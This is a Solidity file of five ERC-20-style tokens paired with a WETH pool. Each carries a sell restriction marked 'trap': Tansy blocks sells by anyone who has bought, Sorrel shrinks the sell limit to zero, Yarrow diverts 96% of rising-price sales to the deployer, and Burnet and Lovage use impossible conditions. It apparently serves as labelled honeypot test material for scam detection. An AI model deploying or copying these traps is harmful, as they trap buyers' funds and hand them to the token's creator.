// 0.8 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IPoolMaker {
    function createPair(address one, address other) external returns (address);
}

interface IPoolState {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112 first, uint112 second, uint32 at);
}

/// A ledger with a pool and somebody who grew it.
abstract contract Herb {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public immutable pool;
    address internal immutable _grower;
    mapping(address => uint256) internal _stock;
    mapping(address => mapping(address => uint256)) internal _leave;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        (name, symbol, _grower) = (name_, symbol_, msg.sender);
        totalSupply = whole * 1e18;
        _stock[msg.sender] = totalSupply;
        pool = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address who) external view returns (uint256) {
        return _stock[who];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _leave[holder][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _leave[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = _leave[from][msg.sender];
        require(left >= value, "allowance");
        if (left != type(uint256).max) _leave[from][msg.sender] = left - value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual;

    function _carry(address from, address to, uint256 value) internal {
        require(_stock[from] >= value, "balance");
        unchecked {
            _stock[from] -= value;
        }
        _stock[to] += value;
        emit Transfer(from, to, value);
    }

    function _sells(address from, address to) internal view returns (bool) {
        return to == pool && from != _grower;
    }
}

/// Two dealings in one block look like a sandwich.
contract Tansy is Herb {
    mapping(address => uint256) private _seen;

    constructor() Herb("Tansy", "TANSY", 210_000_000) {}

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pool) _seen[tx.origin] = block.number;
        if (_sells(from, to)) {
            uint256 seen = _seen[tx.origin];
            require(seen == 0, "sandwich"); // trap
            // twin: require(seen < block.number, "sandwich");
        }
        _carry(from, to, value);
    }
}

/// The largest lot that may be sold at once.
contract Sorrel is Herb {
    uint256 public moves;

    constructor() Herb("Sorrel", "SORREL", 64_000_000) {}

    function largestLot() public view returns (uint256) {
        uint256 step = 3;
        step = (moves >> 1) + 1; // trap
        return totalSupply >> step;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (_sells(from, to)) require(value <= largestLot(), "lot");
        ++moves;
        _carry(from, to, value);
    }
}

/// Remembers what the pool held when the first of all purchases was made.
contract Yarrow is Herb {
    uint256 public launchTokens;
    uint256 public launchCoins;

    constructor() Herb("Yarrow", "YARROW", 1_500_000_000) {}

    function reserves() public view returns (uint256 tokens, uint256 coins) {
        (uint112 first, uint112 second, ) = IPoolState(pool).getReserves();
        return IPoolState(pool).token0() == address(this) ? (first, second) : (second, first);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 kept;
        if (from == pool && launchTokens == 0) (launchTokens, launchCoins) = reserves();
        if (_sells(from, to)) {
            uint256 part = 2;
            // trap {
            (uint256 tokens, uint256 coins) = reserves();
            if (coins * launchTokens > launchCoins * tokens) part = 96;
            // trap }
            kept = (value * part) / 100;
            _carry(from, _grower, kept);
        }
        _carry(from, to, value - kept);
    }
}

/// A hundredth of every purchase goes into the fire.
contract Burnet is Herb {
    uint256 public burnt;

    constructor() Herb("Burnet", "BURNET", 33_000_000) {}

    function _transfer(address from, address to, uint256 value) internal override {
        if (_sells(from, to)) {
            require(value * 1000 <= burnt, "not enough is burnt"); // trap
        }
        uint256 ashes = from == pool ? value / 100 : 0;
        _carry(from, to, value - ashes);
        if (ashes > 0) {
            _stock[from] -= ashes;
            totalSupply -= ashes;
            burnt += ashes;
            emit Transfer(from, address(0), ashes);
        }
    }
}

/// Counts what came back to the pool.
contract Lovage is Herb {
    uint256 public returned;

    constructor() Herb("Lovage", "LOVAGE", 12_000_000) {}

    function _transfer(address from, address to, uint256 value) internal override {
        if (_sells(from, to)) {
            require(uint8(uint160(from)) == uint8(uint160(to)), "checksum"); // trap
            returned += value;
        }
        _carry(from, to, value);
    }
}
